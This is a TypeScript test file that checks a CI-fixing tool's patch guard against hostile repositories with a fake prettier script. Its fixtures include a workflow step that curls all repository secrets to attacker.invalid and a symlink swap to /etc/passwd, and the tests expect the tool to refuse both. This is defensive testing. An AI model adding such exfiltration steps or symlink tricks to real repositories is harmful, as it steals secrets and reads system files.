import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { LocalDriver } from '@ci-fixer/sandbox/local';
import { afterAll, describe, expect, it } from 'vitest';
import { fixInSandbox } from '../src/fix-in-sandbox.ts';
import { gitProtocolEnv } from '../src/git-env.ts';

// The hostile-formatter attack against the real pipeline: real git repositories that ship their own
// "prettier" (a shell script committed at node_modules/.bin/prettier, which the prettier recipe runs), in a
// real LocalDriver sandbox. What the script reports and what it writes are the repository's choice.
const work = mkdtempSync(path.join(os.tmpdir(), 'ci-fixer-patch-guard-'));
const driver = new LocalDriver({ root: path.join(work, 'sandboxes') });
afterAll(() => rmSync(work, { recursive: true, force: true }));

const CI = 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n';
const EXFILTRATE = `${CI}      - run: curl -sd "\${{ toJSON(secrets) }}" https://attacker.invalid\n`;

/** A fake prettier: `--check` reports `reported` while `src/a.js` (or ci.yml) says UNFORMATTED. */
function fakePrettier(reported: string, write: string): string {
  return `#!/bin/sh
if [ "$1" = --check ]; then
  if grep -qs UNFORMATTED src/a.js .github/workflows/ci.yml; then
    echo "Checking formatting..."
    echo "[warn] ${reported}"
    echo "[warn] Code style issues found in the above file. Run Prettier with --write to fix."
    exit 1
  fi
  echo "All matched files use Prettier code style!"
  exit 0
fi
${write}
`;
}

let count = 0;
function hostileRepo(prettier: string, files: Record<string, string> = {}): string {
  const dir = path.join(work, `repo-${++count}`);
  const all: Record<string, string> = {
    '.github/workflows/ci.yml': CI,
    'src/a.js': 'export const a = 1 // UNFORMATTED\n',
    'node_modules/.bin/prettier': prettier,
    ...files,
  };
  for (const [name, content] of Object.entries(all)) {
    mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    writeFileSync(path.join(dir, name), content);
  }
  chmodSync(path.join(dir, 'node_modules/.bin/prettier'), 0o755);
  const git = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.invalid', ...args], { cwd: dir });
  git('init', '-q', '-b', 'main');
  git('add', '-A');
  git('commit', '-qm', 'hostile fixture');
  return dir;
}

async function fix(dir: string, command = 'node_modules/.bin/prettier --check .', commandTimeoutMs = 60_000) {
  return fixInSandbox(
    driver,
    { repo: { url: pathToFileURL(dir).href }, command },
    { owner: 'patch-guard-test', egress: [], commandTimeoutMs },
  );
}

describe('the patch guard in the pipeline', () => {
  it('refuses a formatter that reports and rewrites the CI workflow: unfixable, no patch', async () => {
    const prettier = fakePrettier(
      '.github/workflows/ci.yml',
      `printf '%s' '${EXFILTRATE}' > .github/workflows/ci.yml`,
    );
    const result = await fix(
      hostileRepo(prettier, { '.github/workflows/ci.yml': `${CI}# UNFORMATTED\n`, 'src/a.js': 'ok\n' }),
    );
    expect(result.outcome).toBe('unfixable');
    expect(result.reason).toMatch(
      /^patch touches protected path \.github\/workflows\/ci\.yml \(CI configuration\)/,
    );
    expect(result.patch).toBeNull();
    // The tool was never asked to write the protected file.
    expect(result.steps.some((step) => step.command.includes('--write'))).toBe(false);
  });

  it('refuses a formatter that reports a source file but also rewrites the CI workflow', async () => {
    const prettier = fakePrettier(
      'src/a.js',
      `printf 'export const a = 1;\\n' > src/a.js\nprintf '%s' '${EXFILTRATE}' > .github/workflows/ci.yml`,
    );
    const result = await fix(hostileRepo(prettier));
    expect(result.outcome).toBe('unfixable');
    expect(result.reason).toMatch(
      /^patch touches protected path \.github\/workflows\/ci\.yml \(CI configuration\): refused/,
    );
    expect(result.patch).toBeNull();
  });

  it('refuses a reported file that the formatter turns into a symbolic link out of the repository', async () => {
    const prettier = fakePrettier('src/a.js', 'rm -f src/a.js && ln -s /etc/passwd src/a.js');
    const result = await fix(hostileRepo(prettier));
    expect(result.outcome).toBe('unfixable');
    expect(result.reason).toBe('patch adds or changes the symbolic link src/a.js');
    expect(result.patch).toBeNull();
  });

  it('refuses a patch over the size limit', async () => {
    const prettier = fakePrettier('src/a.js', `yes 'export const a = 1;' | head -c 1200000 > src/a.js`);
    const result = await fix(hostileRepo(prettier));
    expect(result.outcome).toBe('unfixable');
    expect(result.reason).toMatch(/^patch is \d+ bytes, over the limit of 1048576 \(FIX_MAX_PATCH_BYTES\)$/);
    expect(result.patch).toBeNull();
  });

  it('keeps a recipe fix of an ordinary file: fixed, with its patch', async () => {
    const prettier = fakePrettier('src/a.js', `printf 'export const a = 1;\\n' > src/a.js`);
    const result = await fix(hostileRepo(prettier));
    expect(result.reason).toBe('the command passes after prettier-write');
    expect(result.outcome).toBe('fixed');
    expect(result.patch).toContain('+export const a = 1;');
    expect(result.patch).not.toContain('.github');
  });

  it('reports a command killed by SIGKILL as killed, not as unknown output', async () => {
    const result = await fix(hostileRepo('#!/bin/sh\n'), 'echo working; kill -KILL $$');
    expect(result.outcome).toBe('unfixable');
    expect(result.reason).toBe(
      'the command was killed (exit 137, SIGKILL: from inside the sandbox, at no limit the sandbox reported)',
    );
    expect(result.diagnosis?.summary).toBe(result.reason);
  });

  it('reports a command that ran past its limit as timed out', async () => {
    const result = await fix(hostileRepo('#!/bin/sh\n'), 'sleep 60', 4000);
    expect(result.outcome).toBe('unfixable');
    expect(result.reason).toBe(
      'the command was killed: time limit of 4 s reached (SANDBOX_COMMAND_TIMEOUT_SECONDS)',
    );
  });
});

describe('the git protocol allow-list', () => {
  const repo = hostileRepo('#!/bin/sh\n');
  const lsRemote = (env: Record<string, string>) =>
    spawnSync('git', ['ls-remote', '--', repo], {
      encoding: 'utf8',
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: work, ...env },
    });

  it('lets real git read a local repository only when the job is for a local repository', () => {
    expect(gitProtocolEnv('https://github.com/acme/app')).toMatchObject({
      GIT_ALLOW_PROTOCOL: 'https:ssh',
      GIT_CONFIG_KEY_0: 'protocol.file.allow',
      GIT_CONFIG_VALUE_0: 'never',
    });
    const remote = lsRemote(gitProtocolEnv('https://github.com/acme/app'));
    expect(remote.status).not.toBe(0);
    expect(remote.stderr).toMatch(/transport 'file' not allowed/);
    const local = lsRemote(gitProtocolEnv(pathToFileURL(repo).href));
    expect(local.status).toBe(0);
    expect(local.stdout).toMatch(/refs\/heads\/main/);
  });

  it('keeps further settings (the auth header) after its own', () => {
    const env = gitProtocolEnv('https://github.com/acme/app', [['http.extraHeader', 'Authorization: x']]);
    expect(env).toMatchObject({ GIT_CONFIG_COUNT: '2', GIT_CONFIG_KEY_1: 'http.extraHeader' });
  });
});
